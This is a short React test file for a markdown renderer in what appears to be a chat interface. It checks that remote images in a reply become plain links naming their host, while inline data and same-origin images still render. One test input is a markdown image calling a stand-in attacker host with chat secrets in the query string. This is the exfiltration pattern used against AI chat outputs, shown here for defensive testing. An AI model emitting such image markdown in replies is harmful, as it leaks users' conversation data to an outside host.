import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import MarkdownContent from './markdown-renderer';

const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

describe('images in a reply', () => {
  it('never loads a remote image: it becomes a link naming the host', () => {
    const { container } = render(
      <MarkdownContent content="Here: ![chart](https://attacker.example/collect?q=the-secret-in-the-chat)" />,
    );
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link', { name: 'Image: chart (attacker.example)' });
    expect(link.getAttribute('href')).toBe('https://attacker.example/collect?q=the-secret-in-the-chat');
    expect(link.getAttribute('rel')).toContain('noreferrer');
  });

  it('shows inline data and same-origin images', () => {
    const { container } = render(
      <MarkdownContent
        content={`![dot](${PIXEL}) ![logo](${window.location.origin}/logo.png) ![rel](/a.png)`}
      />,
    );
    expect([...container.querySelectorAll('img')].map((img) => img.getAttribute('alt'))).toEqual([
      'dot',
      'logo',
      'rel',
    ]);
  });
});
